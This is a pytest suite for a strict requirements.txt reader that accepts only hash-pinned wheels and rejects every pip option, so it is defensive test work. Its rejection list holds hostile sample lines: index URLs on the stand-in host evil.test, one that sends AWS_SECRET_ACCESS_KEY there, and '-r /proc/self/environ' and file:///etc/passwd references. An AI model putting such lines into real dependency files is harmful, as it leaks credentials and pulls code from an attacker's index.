"""requirements.txt is a list of pinned wheels, and contains nothing that an installer obeys."""

from __future__ import annotations

import os
import shlex
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from packaging.requirements import Requirement
from provision.packaging.requirements import (
    FILE,
    MOST_BYTES,
    MOST_FAULTS,
    Pin,
    RequirementFault,
    _logical_lines,
    _read_line,
    read_requirements,
)
from tests.support.sample_stack import ROOT
from tests.unit.config.sample import SAMPLE, furnish, problems_of
from tests.unit.packaging.wheels import make_wheel

DIGEST = "0" * 64
HASH = f"--hash=sha256:{DIGEST}"


def read(folder: Path, text: str | bytes) -> tuple[tuple[Pin, ...], tuple[RequirementFault, ...]]:
    content = text.encode() if isinstance(text, str) else text
    (folder / FILE).write_bytes(content)
    return read_requirements(folder)


@pytest.mark.parametrize(
    ("text", "pins"),
    [
        (f"six==1.17.0 {HASH}", [f"six==1.17.0 {HASH}"]),
        (f"  Six == 1.17.0   {HASH}  # a comment", [f"six==1.17.0 {HASH}"]),
        (f"# above\n\nsix==1.17.0 \\\n    {HASH}\n    # via x\n", [f"six==1.17.0 {HASH}"]),
        (f"six==1.17.0 \\\r\n  {HASH}\r\n", [f"six==1.17.0 {HASH}"]),
        (f"\ufeffsix==1.17.0 {HASH}", [f"six==1.17.0 {HASH}"]),
        (f"six==1.17.0 --hash sha256:{DIGEST.upper()}", [f"six==1.17.0 {HASH}"]),
        (f"a-b[x, c]==1 {HASH}", [f"a-b[c,x]==1 {HASH}"]),
        (
            f"numpy==2.0.1+cpu; python_version < '3.12' and sys_platform=='linux' {HASH}",
            [f'numpy==2.0.1+cpu ; python_version < "3.12" and sys_platform == "linux" {HASH}'],
        ),
        (
            f"a==1 --hash=sha512:{'b' * 128} {HASH}\na==2 {HASH} {HASH}",
            [f"a==1 {HASH} --hash=sha512:{'b' * 128}", f"a==2 {HASH}"],
        ),
    ],
)
def test_pins_are_read(tmp_path: Path, text: str, pins: list[str]) -> None:
    found, faults = read(tmp_path, text)
    assert faults == ()
    assert [str(pin) for pin in found] == pins


def test_the_shipped_file_is_read_whole() -> None:
    pins, faults = read_requirements(ROOT / "layer")
    assert faults == ()
    text = (ROOT / "layer" / FILE).read_text()
    assert sum(len(pin.hashes) for pin in pins) == text.count("--hash=sha256:")
    assert "aws-lambda-powertools" in {pin.name for pin in pins}


NOT_READ = (
    ("-r base.txt", "-r: no other file is read"),
    ("--requirement=base.txt", "--requirement: no other file"),
    ("-r /proc/self/environ", "-r: no other file"),
    ("-c limits.txt", "-c: no other file"),
    ("--index-url https://u:p4ss@evil.test/simple", "--index-url: the index is set in"),
    (
        "--extra-index-url https://evil.test/${AWS_SECRET_ACCESS_KEY}",
        "--extra-index-url: the index",
    ),
    ("-i https://evil.test", "-i: the index"),
    ("--find-links ./wheels", "--find-links: the index"),
    ("--trusted-host evil.test", "--trusted-host: the index"),
    ("--no-index", "--no-index: the index"),
    ("--no-binary :all:", "--no-binary: only wheels"),
    ("--only-binary=:none:", "--only-binary: only wheels"),
    ("-e .", "-e: packages come from the index"),
    ("--editable ./own", "--editable: packages come"),
    ("--pre", "--pre: no options"),
    ("--config-settings x", "--config-settings: no options"),
    ("-", "-: no options"),
    (f"six==1.17.0 --no-binary six {HASH}", "--no-binary: only wheels"),
    (f"six==1.17.0 {HASH} --config-settings=--x=y", "--config-settings: no options"),
    (f"six==1.17.0 {HASH} --install-option=--x", "--install-option: no options"),
    ("six==1.17.0 --hash=md5:00", "this hash cannot be used"),
    ("six==1.17.0 --hash=sha256:xyz", "this hash cannot be used"),
    (f"{HASH}", "a hash without its package"),
    ("six==1.17.0", "six has no hash"),
    (f"six>=1 {HASH}", "six>=1 leaves the version open"),
    (f"six==1.* {HASH}", "six==1.* leaves the version open"),
    (f"six===1 {HASH}", "six===1 leaves the version open"),
    (f"six==1,!=2 {HASH}", "leaves the version open"),
    (f"six {HASH}", "six leaves the version open"),
    (f"six @ https://evil.test/six.whl {HASH}", "the address of six"),
    (f"six @ file:///etc/passwd {HASH}", "the address of six"),
    (f"six[a] @ git+https://evil.test/x {HASH}", "the address of six"),
    (f"./six-1.whl {HASH}", "a path or an address"),
    (f"/tmp/six-1.tar.gz {HASH}", "a path or an address"),
    (f"six-1.17.0-py3-none-any.whl {HASH}", "a path: packages come from the index"),
    (f"https://evil.test/six.whl#sha256={DIGEST}", "a path or an address"),
    (f"git+ssh://evil.test/six {HASH}", "a path or an address"),
    (f"${{NAME}}==1 {HASH}", "variables of the environment"),
    (f'six==1 ; sys_platform == "${{AWS_SECRET_ACCESS_KEY}}" {HASH}', "variables of the"),
    (f'six==1 ; platform_version == "a\\tb" {HASH}', "the marker of six has characters"),
    (f'six==1 ; platform_version == "é" {HASH}', "the marker of six has characters"),
    (f'six==1 ; {"(" * 480}python_version{")" * 480} > "3" {HASH}', "is no package with"),
    (f"six==1.{'1' * 1000} {HASH}", "has more than 1,000 characters"),
    ("this is no requirement", "`this is no requirement` is no package"),
    ("\x1b[2Jsix", "`?[2Jsix` is no package"),
    ("é" * 400, f"`{'é' * 60}…` is no package"),
)


@pytest.mark.parametrize(("line", "said"), NOT_READ, ids=[line[:40] for line, _ in NOT_READ])
def test_anything_else_is_an_error_with_its_line(tmp_path: Path, line: str, said: str) -> None:
    pins, faults = read(tmp_path, f"# first\na==1 \\\n  {HASH}\n{line}\n")
    (fault,) = faults
    assert fault.line == 4
    assert said in fault.message
    assert fault.instead
    assert [pin.name for pin in pins] == ["a"]
    assert "p4ss" not in str(fault)


@pytest.mark.parametrize("text", ["", "\n# nothing\n", "\\\n\\"])
def test_a_file_without_a_package_is_said(tmp_path: Path, text: str) -> None:
    _, (fault,) = read(tmp_path, text)
    assert "names no package" in fault.message


def test_what_is_no_text_is_said_with_its_line(tmp_path: Path) -> None:
    _, (fault,) = read(tmp_path, f"a==1 {HASH}\n".encode() + b"\xff\xfe")
    assert (fault.line, fault.message) == (2, "the file is not UTF-8 text")


def test_a_file_that_is_none_at_all_does_not_fill_the_screen(tmp_path: Path) -> None:
    _, faults = read(tmp_path, "x y\n" * 10_000)
    assert len(faults) == MOST_FAULTS
    with pytest.raises(OSError, match="larger than"):
        read(tmp_path, b"#" * (MOST_BYTES + 1))


SLOW = (
    "a" + " " * 1_000_000 + "b",
    "-" * 1_000_000,
    "a -" * 300_000,
    "a==" + "1." * 500_000,
    "." * 1_000_000 + "@",
    "a[" + "b," * 500_000 + "]==1",
    "x\n" * 500_000,
    "\\\n" * 300_000,
    f"a==1 {HASH}\n" * 12_000,
)


@pytest.mark.parametrize("text", SLOW, ids=[text[:8] for text in SLOW])
def test_no_text_takes_long(tmp_path: Path, text: str) -> None:
    """A pattern that starts again at each of a million blanks would take hours."""
    began = time.process_time()
    read(tmp_path, text[:MOST_BYTES])
    assert time.process_time() - began < 10


def test_a_link_to_a_file_elsewhere_is_not_read(tmp_path: Path) -> None:
    layer = tmp_path / "layer"
    layer.mkdir()
    (tmp_path / "credentials").write_text("aws_secret_access_key = precious\n")
    (layer / FILE).symlink_to("../credentials")
    with pytest.raises(OSError, match="symbolic link out of its folder"):
        read_requirements(layer)


@given(st.text(max_size=300))
def test_whatever_it_says_what_is_read_is_pins(text: str) -> None:
    """Each pin that we write is read by others as the same package, with no option but hashes."""
    for number, line in _logical_lines(text):
        found = _read_line(number, line, Path("layer"))
        if isinstance(found, Pin):
            head, _, hashes = str(found).partition(" --hash=")
            wanted = Requirement(head)
            assert wanted.url is None
            assert str(wanted.specifier) == f"=={found.version}"
            assert "\n" not in str(found)
            assert "$" not in str(found)
            assert " -" not in hashes.replace(" --hash=", "")


def test_config_check_tells_file_and_line_and_what_to_write(tmp_path: Path) -> None:
    path = furnish(tmp_path)
    (tmp_path / "layer" / FILE).write_text(f"a==1 {HASH}\n-r base.txt\nsix==1.17.0\n")
    problems = problems_of(path, SAMPLE)
    told = [(Path(each.file).name, each.line, str(each)) for each in problems]
    assert [(name, line) for name, line, _ in told] == [(FILE, 2), (FILE, 3)]
    assert "uv pip compile" in told[1][2]


def test_the_command_that_is_told_writes_a_file_that_is_read(tmp_path: Path) -> None:
    """A list of pins without hashes, as `pip freeze` writes it, becomes one with hashes."""
    made = make_wheel(tmp_path / "wheels", "plain", {"plain.py": ""})
    _, (fault,) = read(tmp_path, "plain==1.0\n")
    command = [*shlex.split(fault.instead.split("`")[1]), "--no-index"]
    environment = {**os.environ, "UV_FIND_LINKS": str(made.path.parent)}
    subprocess.run(command, env=environment, check=True, capture_output=True)
    pins, faults = read_requirements(tmp_path)
    assert faults == ()
    assert [f"{pin}\n" for pin in pins] == [made.pin]
